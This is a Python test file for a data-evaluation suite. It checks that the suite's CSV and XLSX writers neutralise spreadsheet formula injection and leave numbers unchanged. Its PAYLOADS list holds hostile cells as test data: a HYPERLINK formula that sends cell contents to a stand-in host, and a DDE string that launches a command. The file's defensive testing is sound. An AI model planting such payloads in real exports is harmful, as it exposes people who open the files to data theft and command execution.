"""Cells that a spreadsheet would run as formulas are written as text, numbers never change (issue 13, item 2).

Every writer of the suite is exercised with text beginning with ``=``, ``+``,
``-``, ``@``, a tab and a carriage return: the run's ``tables/*.csv``
(``tables.save_table``), the FURAG importer's ``entities.csv`` and
``outcomes.csv``, the adoption template's CSV and XLSX, the panel-config
converter and the demo writer. The end-to-end check of a whole run's tables is
in ``test_injection.py`` (the hostile dataset).
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # tests/: shared helpers
from evaluation.demo.files import to_csv_text
from evaluation.importers import panel_config
from evaluation.importers.furag import import_furag
from evaluation.importers.registry import write_template
from evaluation.report import tables
from evaluation.safe import FORMULA_STARTS, neutralise_cell, neutralise_formulas
from test_furag import NATIONAL_2021, furag_workbook  # noqa: E402

PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1", "=cmd|' /C calc'!A0"]


def _raw_cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _live(cell: str) -> bool:
    """Would a spreadsheet read this CSV cell as a formula?"""
    return cell[:1] in FORMULA_STARTS and neutralise_cell(cell) != cell


def test_the_helper_prefixes_formula_text_and_leaves_numbers_alone():
    for text in PAYLOADS:
        assert neutralise_cell(text) == "'" + text.replace("\r", "\n")
    for number_text in ("-3", "-0.5", "+57", "-1.234,5", "-2e-3"):
        assert neutralise_cell(number_text) == number_text
    for value in (-3, -0.5, 2.0, None, "plain", "", "a=b"):
        assert neutralise_cell(value) == value
    frame = pd.DataFrame({"name": PAYLOADS, "effect": [-1.5, -2.0, 0.0, 3.0, -4.25, 5.0, -6.0],
                          "count": [-1, 2, 3, 4, 5, 6, 7]})
    before = frame.copy()
    safe = neutralise_formulas(frame)
    pd.testing.assert_frame_equal(frame, before)  # the caller's frame is untouched
    assert list(safe["name"]) == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    pd.testing.assert_series_equal(safe["effect"], frame["effect"])
    pd.testing.assert_series_equal(safe["count"], frame["count"])


def test_run_tables_are_written_with_formulas_neutralised(tmp_path):
    table = pd.DataFrame({"subgroup": PAYLOADS, "estimate": [-1.25, 2, -3, 4, -5, 6, -7],
                          PAYLOADS[0]: range(7)})
    tables.save_table(table, str(tmp_path), "t.csv")
    rows = _raw_cells(tmp_path / "tables" / "t.csv")
    assert not any(_live(cell) for row in rows for cell in row), rows
    assert len(rows) == 1 + len(PAYLOADS)  # a carriage return in a cell did not start a new row
    assert [r[0] for r in rows[1:]] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert [r[1] for r in rows[1:]] == ["-1.25", "2.0", "-3.0", "4.0", "-5.0", "6.0", "-7.0"]  # numbers unchanged
    assert rows[0][2] == "'" + PAYLOADS[0]  # a column name from the data is a cell too


def test_furag_import_writes_entity_names_as_text(tmp_path):
    spec = {"header": NATIONAL_2021["header"], "rows": [list(r) for r in NATIONAL_2021["rows"]]}
    for row, payload in zip(spec["rows"], PAYLOADS):
        row[1] = payload            # Entidad
        row[4] = "@" + row[4]       # Grupo par
    book = furag_workbook(tmp_path / "Resultados_vig2021_nacion.xlsx", spec)
    workbook = openpyxl.load_workbook(book)  # the "=..." name as the text cell a published workbook holds
    workbook.active.cell(row=4, column=2).data_type = "s"
    workbook.save(book)
    import_furag([book], tmp_path / "out")
    for name in ("entities.csv", "outcomes.csv"):
        rows = _raw_cells(tmp_path / "out" / name)
        assert not any(_live(cell) for row in rows for cell in row), (name, rows)
    entities = pd.read_csv(tmp_path / "out" / "entities.csv", dtype=str, keep_default_na=False)
    names = set(entities["name"])
    assert {"'" + p.strip() for p in PAYLOADS[:4]} <= names, names
    outcomes = pd.read_csv(tmp_path / "out" / "outcomes.csv")
    assert pd.api.types.is_numeric_dtype(outcomes["value"])  # scores stay numbers


def test_adoption_template_lists_formula_like_names_as_text(tmp_path):
    entities = pd.DataFrame({"entity_id": ["=1+1", "05001", "-5", "@A1"], "name": PAYLOADS[:4]})
    csv_path, xlsx_path = write_template(tmp_path / "t", entities=entities)
    assert csv_path.read_text(encoding="utf-8") == "entity_id,adoption_date,post_title,post_level\n"
    sheet = openpyxl.load_workbook(xlsx_path)["entities"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and all(cell.data_type == "s" for cell in cells if cell.value is not None)
    assert [sheet.cell(row=r, column=2).value for r in range(2, 6)] == PAYLOADS[:4]  # text, exactly as given
    assert sheet.cell(row=2, column=1).value == "=1+1" and sheet.cell(row=4, column=1).value == "-5"


def test_panel_config_conversion_writes_unit_names_as_text(tmp_path):
    panel = "unit,name,period,flag,y\n" + "".join(
        f"{u},{n},{t},{int(u == 'a' and t >= 2003)},{-1.5 + t - 2001}\n"
        for u, n in (("a", "=HYPERLINK(1)"), ("b", "@evil"), ("c", "-2+3"))
        for t in range(2001, 2005))
    (tmp_path / "p.csv").write_text(panel, encoding="utf-8")
    config = tmp_path / "run.yaml"
    config.write_text(yaml.safe_dump({"panel": {"file": "p.csv", "unit": "unit", "unit_name": "name",
                                                "time": "period", "treated": "flag", "outcomes": ["y"],
                                                "level": "municipal"}}), encoding="utf-8")
    folder = panel_config.convert(config, tmp_path / "out")
    for name in ("entities.csv", "adoption.csv", "outcomes.csv"):
        rows = _raw_cells(folder / name)
        assert not any(_live(cell) for row in rows for cell in row), (name, rows)
    outcomes = pd.read_csv(folder / "outcomes.csv")
    assert outcomes["value"].min() == pytest.approx(-1.5)  # negative numbers stay numbers


def test_demo_writer_neutralises_text_and_keeps_its_number_formats():
    frame = pd.DataFrame({"entity_id": ["A", "B"], "name": ["=1+1", "Bogotá"], "value": [-0.5, 2.0],
                          "year": [2020, 2021]})
    text = to_csv_text("outcomes", frame)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["A", "'=1+1", "-0.50", "2020"]
    assert rows[2] == ["B", "Bogotá", "2.00", "2021"]
